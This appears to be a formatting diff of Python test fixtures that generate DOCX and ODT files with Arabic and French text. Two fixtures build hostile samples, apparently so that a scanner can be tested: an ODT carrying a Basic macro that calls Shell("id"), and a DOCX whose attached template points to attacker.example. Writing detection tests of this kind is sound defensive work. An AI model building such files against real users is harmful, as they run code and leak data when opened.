@@ -29,15 +29,18 @@ _RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 
 def _paragraph(text: str, rtl: bool) -> str:
     ppr = "<w:pPr><w:bidi/></w:pPr>" if rtl else ""
-    rpr = ('<w:rPr><w:rFonts w:cs="Noto Naskh Arabic"/><w:rtl/><w:szCs w:val="28"/></w:rPr>' if rtl else "")
-    return f"<w:p>{ppr}<w:r>{rpr}<w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"
+    rpr = '<w:rPr><w:rFonts w:cs="Noto Naskh Arabic"/><w:rtl/><w:szCs w:val="28"/></w:rPr>' if rtl else ""
+    return f'<w:p>{ppr}<w:r>{rpr}<w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
 
 
-def docx(paragraphs: tuple[str, ...] = (ARABIC, FRENCH), extra: dict[str, bytes | str] | None = None,
-         rels: str = _RELS) -> bytes:
+def docx(
+    paragraphs: tuple[str, ...] = (ARABIC, FRENCH), extra: dict[str, bytes | str] | None = None, rels: str = _RELS
+) -> bytes:
     body = "".join(_paragraph(p, any("\u0600" <= c <= "\u06ff" for c in p)) for p in paragraphs)
-    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}">'
-                f"<w:body>{body}</w:body></w:document>")
+    document = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}">'
+        f"<w:body>{body}</w:body></w:document>"
+    )
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("[Content_Types].xml", _CT)
@@ -49,27 +52,39 @@ def docx(paragraphs: tuple[str, ...] = (ARABIC, FRENCH), extra: dict[str, bytes 
 
 
 def odt(paragraphs: tuple[str, ...] = (ARABIC, FRENCH), extra: dict[str, bytes | str] | None = None) -> bytes:
-    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
-          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
-          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
-          'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
-          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2"')
-    faces = ('<office:font-face-decls><style:font-face style:name="Noto Naskh Arabic" '
-             'svg:font-family="&apos;Noto Naskh Arabic&apos;"/></office:font-face-decls>')
-    styles = ('<office:automatic-styles><style:style style:name="R" style:family="paragraph">'
-              '<style:paragraph-properties fo:text-align="end" style:writing-mode="rl-tb"/>'
-              '<style:text-properties style:font-name-complex="Noto Naskh Arabic"/></style:style>'
-              "</office:automatic-styles>")
-    body = "".join(f'<text:p text:style-name="{"R" if any(chr(0x600) <= c <= chr(0x6ff) for c in p) else ""}">'
-                   f"{p}</text:p>" for p in paragraphs)
-    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {ns}>{faces}{styles}'
-               f"<office:body><office:text>{body}</office:text></office:body></office:document-content>")
-    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
-                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
-                '<manifest:file-entry manifest:full-path="/" '
-                'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
-                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
-                "</manifest:manifest>")
+    ns = (
+        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
+        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+        'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
+        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2"'
+    )
+    faces = (
+        '<office:font-face-decls><style:font-face style:name="Noto Naskh Arabic" '
+        'svg:font-family="&apos;Noto Naskh Arabic&apos;"/></office:font-face-decls>'
+    )
+    styles = (
+        '<office:automatic-styles><style:style style:name="R" style:family="paragraph">'
+        '<style:paragraph-properties fo:text-align="end" style:writing-mode="rl-tb"/>'
+        '<style:text-properties style:font-name-complex="Noto Naskh Arabic"/></style:style>'
+        "</office:automatic-styles>"
+    )
+    body = "".join(
+        f'<text:p text:style-name="{"R" if any(chr(0x600) <= c <= chr(0x6FF) for c in p) else ""}">{p}</text:p>'
+        for p in paragraphs
+    )
+    content = (
+        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {ns}>{faces}{styles}'
+        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
+    )
+    manifest = (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
+        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
+        '<manifest:file-entry manifest:full-path="/" '
+        'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
+        "</manifest:manifest>"
+    )
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")  # stored, first
@@ -87,16 +102,22 @@ def docm_renamed() -> bytes:
 
 def odt_with_basic() -> bytes:
     """An ODT carrying a Basic module and an on-load script binding."""
-    return odt(extra={"Basic/Standard/Module1.xml": "<script:module>Sub Main\nShell(\"id\")\nEnd Sub</script:module>",
-                      "Basic/script-lc.xml": "<library:libraries/>"})
+    return odt(
+        extra={
+            "Basic/Standard/Module1.xml": '<script:module>Sub Main\nShell("id")\nEnd Sub</script:module>',
+            "Basic/script-lc.xml": "<library:libraries/>",
+        }
+    )
 
 
 def docx_with_remote_template() -> bytes:
     """A DOCX whose settings point at a template on another server (loaded, and leaking, when opened)."""
-    settings_rels = ('<?xml version="1.0" encoding="UTF-8"?>\n<Relationships '
-                     'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
-                     'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-                     'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
+    settings_rels = (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<Relationships '
+        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
+    )
     return docx(extra={"word/_rels/settings.xml.rels": settings_rels})
 
 
